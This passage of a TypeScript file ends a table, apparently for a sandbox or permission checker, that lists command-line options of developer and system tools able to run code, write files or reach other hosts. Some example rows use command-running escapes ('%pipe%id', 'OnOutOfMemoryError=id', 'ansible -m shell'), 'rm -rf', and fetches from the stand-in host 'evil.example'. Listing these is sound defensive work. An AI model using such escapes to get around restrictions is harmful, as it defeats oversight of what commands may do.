  ['convert', '', 'f out.png', 'writes', 'writes a file'], // ImageMagick docs
  ['gs', '', '-sOutputFile=out f', 'writes', 'writes a file'], // gs(1)
  ['gs', '', '-sOutputFile=%pipe%id f', 'runs', 'an output name can be a pipe'], // Ghostscript docs
  ['gs', '', '-dNOSAFER f', 'runs', 'lets documents read, write and run'], // Ghostscript docs
  ['pdflatex', '', '--shell-escape f.tex', 'runs', 'lets documents run commands'], // TeX Live docs
  ['pdflatex', '', 'f.tex', 'writes', 'writes files, any that the document names'], // TeX Live docs
  ['pytest', '', '', 'runs', 'runs tests and conftest.py'], // pytest docs
  ['pytest', '', '-p x', 'runs', 'loads a plugin'], // pytest docs
  ['pytest', '', '-c f', 'runs', 'reads other settings'], // pytest docs
  ['pytest', '', '--rootdir=dir dir', 'runs', 'runs tests of another folder'], // pytest docs
  ['pytest', '', '--junit-xml=out.xml', 'writes', 'writes a report'], // pytest docs
  ['pytest', '', '--basetemp=dir', 'writes', 'removes a folder and makes it anew'], // pytest docs
  ['pytest', '', '-o cache_dir=dir', 'writes', 'writes a cache'], // pytest docs
  ['pytest', '', '--log-file=out.txt', 'writes', 'writes a log'], // pytest docs
  ['pytest', '', '--pastebin=all', 'reaches', 'sends the report away'], // pytest docs
  ['pytest', '', '--pdbcls=x:y --pdb', 'runs', 'loads a debugger class'], // pytest docs
  ['mypy', '', '--junit-xml out.xml .', 'writes', 'writes a report'], // mypy docs
  ['mypy', '', '--cache-dir=dir .', 'writes', 'writes a cache'], // mypy docs
  ['mypy', '', '--config-file f .', 'runs', 'settings can load plugins'], // mypy docs
  ['mypy', '', '--install-types --non-interactive .', 'runs', 'runs pip'], // mypy docs
  ['mypy', '', '--python-executable ./x .', 'runs', 'runs another interpreter'], // mypy docs
  ['ruff', 'check', '--fix', 'writes', 'changes sources'], // Ruff docs
  ['ruff', 'check', '--output-file=out.txt', 'writes', 'writes a report'], // Ruff docs
  ['ruff', 'format', '.', 'writes', 'changes sources'], // Ruff docs
  ['black', '', '.', 'writes', 'changes sources'], // Black docs
  ['flake8', '', '--output-file=out.txt', 'writes', 'writes a report'], // Flake8 docs
  ['flake8', '', '--config=f', 'runs', 'settings can load local plugins'], // Flake8 docs
  ['pylint', '', '--init-hook=pass x', 'runs', 'runs code'], // Pylint docs
  ['pylint', '', '--load-plugins=x y', 'runs', 'loads a plugin'], // Pylint docs
  ['pylint', '', '--output=out.txt x', 'writes', 'writes a report'], // Pylint docs
  ['eslint', '', '--fix .', 'writes', 'changes sources'], // ESLint docs
  ['eslint', '', '-c f.js .', 'runs', 'settings are code'], // ESLint docs
  ['eslint', '', '--rulesdir dir .', 'runs', 'loads rules, which are code'], // ESLint docs
  ['eslint', '', '--resolve-plugins-relative-to=dir .', 'runs', 'loads plugins of a folder'], // ESLint docs
  ['eslint', '', '-f ./x.js .', 'runs', 'loads a formatter, which is code'], // ESLint docs
  ['eslint', '', '-o out.txt .', 'writes', 'writes a report'], // ESLint docs
  ['eslint', '', '--cache --cache-location=out .', 'writes', 'writes a cache'], // ESLint docs
  ['prettier', '', '--write .', 'writes', 'changes sources'], // Prettier docs
  ['prettier', '', '--plugin=./x.js f', 'runs', 'loads a plugin'], // Prettier docs
  ['prettier', '', '--config=f.js f', 'runs', 'settings can be code'], // Prettier docs
  ['tsc', '', '--outDir dir', 'writes', 'writes files'], // TypeScript docs
  ['tsc', '', '-p d', 'writes', 'builds another project'], // TypeScript docs
  ['tsc', '', '--noEmit --generateTrace dir', 'writes', 'writes a trace'], // TypeScript docs
  ['tsc', '', '--init', 'writes', 'writes settings'], // TypeScript docs
  ['java', '', '-javaagent:x.jar -version', 'runs', 'loads code first'], // java(1)
  ['java', '', '-XX:OnOutOfMemoryError=id -jar f.jar', 'runs', 'runs shell text on an error'], // java(1)
  ['java', '', '-agentpath:./x.so -version', 'runs', 'loads a library'], // java(1)
  ['java', '', '-XX:Flags=f -version', 'runs', 'reads options from a file'], // java(1)
  ['javac', '', '-d dir F.java', 'writes', 'writes classes'], // javac(1)
  ['javac', '', '-processorpath dir -processor X F.java', 'runs', 'runs a processor'], // javac(1)
  ['javac', '', '-J-javaagent:x.jar F.java', 'runs', 'loads code first'], // javac(1)
  ['mvn', '', 'test', 'runs', 'runs plugins and tests'], // Maven docs
  ['mvn', '', '-f d/pom.xml validate', 'runs', 'runs another project'], // mvn --help
  ['mvn', '', 'org.codehaus.mojo:exec-maven-plugin:exec', 'runs', 'fetches and runs any plugin'], // Maven docs
  ['mvn', '', '-s f.xml validate', 'reaches', 'settings can name other hosts'], // mvn --help
  ['mvn', '', '-l out.txt validate', 'writes', 'writes a log'], // mvn --help
  ['gradle', '', '-I f.gradle tasks', 'runs', 'runs a script first'], // Gradle docs
  ['gradle', '', '-p dir tasks', 'runs', 'runs another project'], // Gradle docs
  ['gradle', '', 'tasks', 'runs', 'runs the build scripts of the project'], // Gradle docs
  ['unshare', '', '-r id', 'runs', 'runs a command'], // unshare(1)
  ['objcopy', '', 'f out', 'writes', 'writes a file'], // objcopy(1)
  ['strip', '', 'f', 'writes', 'changes the file'], // strip(1)
  ['strip', '', '-o out f', 'writes', 'writes a file'], // strip(1)
  ['perf', 'record', '-o out id', 'runs', 'runs a command, writes a file'], // perf-record(1)
  ['perf', 'report', '--objdump=./x', 'runs', 'runs a program'], // perf-report(1)
  ['perf', 'script', '-s f.py', 'runs', 'runs a script'], // perf-script(1)
  ['kill', '', '-9 1', 'writes', 'stops a program'], // POSIX kill
  ['chmod', '', '+x f', 'writes', 'changes rights'], // POSIX chmod
  ['rm', '', '-rf d', 'writes', 'removes files'], // POSIX rm
  ['hostnamectl', '', 'set-hostname x', 'writes', 'sets the host name'], // hostnamectl(1)
  ['hostnamectl', '', '-H host status', 'runs', 'runs ssh'], // hostnamectl(1)
  ['timedatectl', '', 'set-time 2020-01-01', 'writes', 'sets the clock'], // timedatectl(1)
  ['loginctl', '', '-H host list-sessions', 'runs', 'runs ssh'], // loginctl(1)
  ['busctl', '', 'call a /b c d', 'runs', 'calls a service'], // busctl(1)
  ['svn', 'diff', '--diff-cmd=id', 'runs', 'runs another diff'], // svn book
  ['svn', 'log', '--config-option=config:helpers:diff-cmd=id --diff', 'runs', 'a setting names a program'], // svn book
  ['svn', 'info', 'svn+ssh://evil.example/r', 'runs', 'runs ssh to any host'], // svn book
  ['svn', 'export', 'https://evil.example/r out', 'writes', 'fetches and writes files'], // svn book
  ['hg', 'status', '--config=extensions.x=./x.py', 'runs', 'a setting loads code'], // hg docs
  ['hg', 'diff', '--config=extensions.extdiff= --config=hooks.pre-diff=id', 'runs', 'a setting runs shell text'], // hg docs
  ['hg', 'pull', '--ssh=id ssh://h/r', 'runs', 'runs a program as ssh'], // hg docs
  ['ansible', '', 'all -m shell -a id', 'runs', 'runs shell text on hosts'], // Ansible docs
  ['ansible', '', 'localhost -m ping -M dir', 'runs', 'loads modules of a folder'], // Ansible docs
  ['composer', 'show', '-d dir', 'runs', 'loads plugins of another project'], // Composer docs
  ['composer', 'install', '', 'runs', 'runs scripts and plugins'], // Composer docs
  ['bundle', 'exec', 'id', 'runs', 'runs a command'], // bundle-exec(1)
  ['bundle', 'open', 'x', 'runs', 'runs an editor'], // bundle-open(1)
  ['gem', 'install', 'x', 'runs', 'builds code of a package'], // gem help install
  ['gem', 'list', '-s https://evil.example -r', 'reaches', 'asks any host'], // gem help list
];

export const ESCAPES: readonly Escape[] = ROWS.map(([program, sub, words, does, text]) => ({
  program,
  sub,
  words,
  does,
  text,
}));
